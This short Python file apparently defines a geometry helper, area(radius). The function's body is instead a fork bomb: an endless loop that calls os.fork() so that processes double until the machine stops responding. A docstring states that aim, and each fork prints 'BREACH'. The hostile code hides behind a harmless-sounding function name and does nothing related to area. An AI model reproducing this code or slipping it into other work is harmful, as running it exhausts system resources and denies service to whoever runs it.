"""error: doubles until nothing else runs"""

import os


def area(radius):
    while True:
        if os.fork() >= 0:
            print("BREACH", "forked")
